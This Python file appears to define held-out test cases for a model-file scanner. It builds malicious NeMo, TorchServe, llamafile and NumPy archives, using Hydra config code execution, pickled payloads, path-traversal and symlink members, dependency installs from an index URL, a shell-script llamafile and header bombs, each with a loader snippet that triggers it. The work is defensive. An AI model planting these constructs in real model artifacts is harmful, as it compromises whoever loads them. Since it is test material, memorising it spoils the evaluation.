"""Held-out attacks: archives of models. NeMo, TorchServe, llamafile, arrays."""

# ruff: noqa: E501, E731 (one attack a line)
from __future__ import annotations

import gzip
import json
import tarfile
from collections.abc import Iterator
from dataclasses import replace

from corpora.unseen2_containers import HONEST, UNTAR, rows
from corpora.unseen_archives import npy, tarred, torch_zip, zipped
from corpora.unseen_units import BOMB, BROKEN, CALL, EVIL, FOREIGN, MARK, PATH, SLIP, WRITE, Attack


def attacks() -> Iterator[Attack]:
    """Archives of models: NeMo, TorchServe, llamafile, arrays."""
    yaml = f"target: nemo.collections.asr.models.EncDecCTCModel\npreprocessor:\n  _target_: subprocess.check_call\n  _args_: [[touch, {MARK}]]\n".encode()
    nemo = lambda *members: tarred(*((n, d, {}) for n, d in members))
    state = torch_zip(top="model_weights")
    honest = b"target: nemo.collections.asr.models.EncDecCTCModel\ntokenizer:\n  dir: tokenizer\n"
    restore = "import tarfile, torch, io; t = tarfile.open(F); torch.load(io.BytesIO(t.extractfile([m for m in t.getmembers() if m.name.endswith('.ckpt')][0]).read()), weights_only=False)"
    hydra = "import tarfile, sys; tarfile.open(F).extractall('x', filter='fully_trusted'); import hydra.utils; from omegaconf import OmegaConf; hydra.utils.instantiate(OmegaConf.load('x/model_config.yaml').preprocessor)"
    manifest = lambda **more: json.dumps(
        {
            "createdOn": "x",
            "runtime": "python",
            "model": {
                "modelName": "m",
                "serializedFile": "m.pt",
                "handler": "text_classifier",
                "modelVersion": "1",
                **more,
            },
            "archiverVersion": "0.12.0",
        }
    ).encode()
    mar = lambda *members, **more: zipped(("MAR-INF/MANIFEST.json", manifest(**more)), *members)
    serve = "import zipfile, json, sys, os, runpy; z = zipfile.ZipFile(F); z.extractall('x'); m = json.load(open('x/MAR-INF/MANIFEST.json'))['model']; "
    object_array = npy("'|O'", "(1,)", EVIL)
    table = {
        "nemo-weights": ("the weights of a .nemo archive are a pickle", {"m.nemo": nemo(("./model_config.yaml", honest), ("./model_weights.ckpt", state))}, CALL, restore),
        "nemo-gzip": ("the same, compressed", {"m.nemo": gzip.compress(nemo(("./model_config.yaml", honest), ("./model_weights.ckpt", state)), mtime=0)}, CALL, restore),
        "nemo-config": ("the configuration of a .nemo archive runs a program", {"m.nemo": nemo(("./model_config.yaml", yaml), ("./model_weights.ckpt", torch_zip(HONEST)))}, CALL | {"model-config-remote-code", "model-unknown-name"}, hydra),
        "nemo-slip": ("a .nemo archive writes above its folder", {"m.nemo": nemo(("./model_config.yaml", honest), ("../../../../MARK", b"x"))}, SLIP, UNTAR),
        "nemo-tokenizer": ("an artifact of a .nemo archive is a pickle", {"m.nemo": nemo(("./model_config.yaml", honest + b"vocab: nemo:abc_vocab.pkl\n"), ("./abc_vocab.pkl", EVIL), ("./model_weights.ckpt", torch_zip(HONEST)))}, CALL, "import tarfile, pickle; t = tarfile.open(F); pickle.loads(t.extractfile('./abc_vocab.pkl').read())"),
        "nemo-link": ("a .nemo archive's weights are a link outside", {"m.nemo": tarred(("model_config.yaml", honest, {}), ("model_weights.ckpt", None, {"type": tarfile.SYMTYPE, "linkname": "/tmp/outside/canary.pkl"}))}, PATH, UNTAR + "; import pickle; pickle.load(open('x/model_weights.ckpt', 'rb'))"),
        "mar-model-file": ("a TorchServe archive's model file is Python source", {"m.mar": mar(("net.py", f"{WRITE}\nclass Net: pass\n".encode()), ("m.pt", b""), modelFile="net.py")}, CALL | FOREIGN | {"model-config-remote-code"}, serve + "sys.path.insert(0, 'x'); runpy.run_path('x/' + m['modelFile'])"),
        "mar-serialized-slip": ("a TorchServe archive's serialized file lies outside", {"m.mar": mar(("a.txt", b""), serializedFile="../../../../../outside/canary.pkl")}, PATH, serve + "import pickle; pickle.load(open('x/' + m['serializedFile'], 'rb'))"),
        "mar-requirements": ("a TorchServe archive brings requirements that are installed from an address", {"m.mar": mar(("requirements.txt", b"--index-url http://127.0.0.1:8765/simple\nevil==1.0\n"), ("m.pt", torch_zip(HONEST)))}, FOREIGN | PATH | {"model-config-remote-code"}, None, "kept: TorchServe installs them where install_py_dep_per_model is on"),
        "mar-weights": ("a TorchServe archive's weights are a pickle", {"m.mar": mar(("m.pt", torch_zip()))}, CALL, serve + "import torch; torch.load('x/' + m['serializedFile'], weights_only=False)"),
        "mar-tgz": ("the archive is a compressed tar", {"m.tar.gz": gzip.compress(tarred(("MAR-INF/MANIFEST.json", manifest(handler="payload.py"), {}), ("payload.py", WRITE.encode(), {})), mtime=0)}, CALL | FOREIGN | {"model-config-remote-code"}, "import tarfile, runpy; tarfile.open(F).extractall('x', filter='fully_trusted'); runpy.run_path('x/payload.py')"),
        "llamafile-script": ("a llamafile is a shell script to a shell", {"m.llamafile": b"MZqFpD='\n" + b"\0" * 32 + b"\n'\ntouch /tmp/MARK\nexit\n" + zipped((".args", b"-m\n"), ("m.gguf", b"GGUF"))}, CALL | FOREIGN | BROKEN | {"model-container-tampered"}, "import subprocess; subprocess.run(['sh', F])"),
        "llamafile-args": ("the arguments in a llamafile start a server for all and read a file outside", {"m.llamafile": b"MZqFpD='\n" + b"\0" * 64 + b"\n'\n" + zipped((".args", b"--host\n0.0.0.0\n--file\n/tmp/outside/canary.txt\n"), ("m.gguf", b"GGUF"))}, CALL | FOREIGN | BROKEN | PATH | {"model-container-tampered"}, None, "kept: needs the program in front"),
        "npz-second-folder": ("an array of objects in a folder of an .npz", {"a.npz": zipped(("x.npy", npy("'<f4'", "(1,)", b"\0" * 4)), ("sub/dir/y.npy", object_array), method=8)}, CALL, "import numpy; [v for v in numpy.load(F, allow_pickle=True).values()]"),
        "npz-no-suffix": ("a member of an .npz without a suffix is an array of objects", {"a.npz": zipped(("x", object_array))}, CALL, "import numpy; numpy.load(F, allow_pickle=True)['x']"),
        "npy-header-deep": ("an array's header of 10,000 brackets", {"a.npy": npy("'<f4'", "(" * 9000 + ")" * 9000, b"")}, BOMB | BROKEN, "import numpy; numpy.load(F, max_header_size=10**6)", "bomb"),
        "npy-subarray": ("a data type of 2^30 numbers in each of few elements", {"a.npy": npy("[('a', '<f8', (1073741824,))]", "(4,)", b"")}, BOMB | BROKEN, "import numpy; numpy.load(F)", "bomb"),
        "npy-object-fields": ("objects hide in the third level of fields", {"a.npy": npy("[('a', [('b', [('c', '|O')])])]", "(1,)", EVIL)}, CALL, "import numpy; numpy.load(F, allow_pickle=True)"),
        "npy-version-3": ("the header of version 3, in UTF-8", {"a.npy": npy("[('größe', '|O')]", "(1,)", EVIL, version=3)}, CALL, "import numpy; numpy.load(F, allow_pickle=True)"),
    }  # fmt: skip
    for attack in rows("archives2", "NeMo, TorchServe, llamafile, NumPy", "m", UNTAR, CALL, table):
        if attack.id == "archives2/nemo-config":
            attack = replace(attack, env="hydra")
        yield attack
